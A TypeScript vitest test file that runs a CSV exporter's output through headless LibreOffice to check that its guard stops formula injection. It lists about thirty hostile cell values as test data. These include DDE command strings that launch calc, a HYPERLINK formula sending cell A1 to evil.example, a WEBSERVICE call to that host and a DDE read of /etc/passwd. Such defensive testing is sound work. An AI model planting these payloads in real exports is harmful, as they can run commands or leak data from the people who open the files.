import { execFile } from "node:child_process";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { describe, expect, it, onTestFinished } from "vitest";
import { CsvWriter } from "../../src/export/csv.js";

const run = promisify(execFile);

/** Comma, double quote, UTF-8; the last but one says that a cell with `=` is evaluated, as a person may have it set. */
const IMPORT = "CSV:44,34,76,1,,0,false,true,false,false,false,0,true";

/** What attackers write into names, so that a spreadsheet program runs it. */
const HOSTILE = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '=WEBSERVICE("http://evil.example/")',
  '=DDE("soffice";"/etc/passwd";"A1")',
  "+1+1",
  "+cmd|' /C calc'!A0",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1;1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  " =1+1",
  "\u0000=1+1",
  "\uFF1D1+1",
  "\uFF0B1+1",
  "\uFF0D1+1",
  "\uFF20SUM(1;1)",
  '",=1+1,"',
  '"\r\n=1+1\r\n"',
  "x\r\n=1+1",
  ";=1+1",
  "'=1+1",
  "=1+1\u202E",
  "\u202E=1+1",
  "{=1+1}",
  "%0A=1+1",
  "=\u00e9()",
];

/** The spreadsheet that LibreOffice makes of the CSV, as XML: a formula is an attribute `table:formula`. */
async function opened(csv: string): Promise<string> {
  const folder = await mkdtemp(join(tmpdir(), "daybook-calc-"));
  onTestFinished(() => rm(folder, { recursive: true, force: true }));
  await writeFile(join(folder, "export.csv"), csv);
  const profile = `-env:UserInstallation=file://${join(folder, "profile")}`;
  const argv = [profile, "--headless", `--infilter=${IMPORT}`, "--convert-to", "fods", "--outdir", folder];
  await run("soffice", [...argv, join(folder, "export.csv")], { timeout: 110_000 });
  return readFile(join(folder, "export.fods"), "utf8");
}

function written(raw: boolean): string {
  const csv = new CsvWriter({ columns: ["Id", "Name"], withOther: false, delimiter: ",", bom: true, raw });
  const rows = HOSTILE.map((name, index) => csv.row(JSON.stringify({ Id: `row ${index}`, Name: name })));
  return csv.header() + rows.join("");
}

function formulasIn(sheet: string): readonly string[] {
  return [...sheet.matchAll(/table:formula="([^"]*)"/g)].map(([, formula = ""]) => formula);
}

describe("CSV in a spreadsheet program", () => {
  it("runs no formula, whatever a name is, and has each event in its row", async () => {
    const sheet = await opened(written(false));

    expect(formulasIn(sheet)).toEqual([]);
    const rows = [...sheet.matchAll(/<text:p>row (\d+)<\/text:p>/g)].map(([, number]) => Number(number));
    expect(rows).toEqual(HOSTILE.map((_name, index) => index));
    expect(sheet).toContain("<text:p>&apos;=1+1</text:p>");
  });

  it("would run formulas without the guard: --raw has them", async () => {
    expect(formulasIn(await opened(written(true))).length).toBeGreaterThan(5);
  });
});
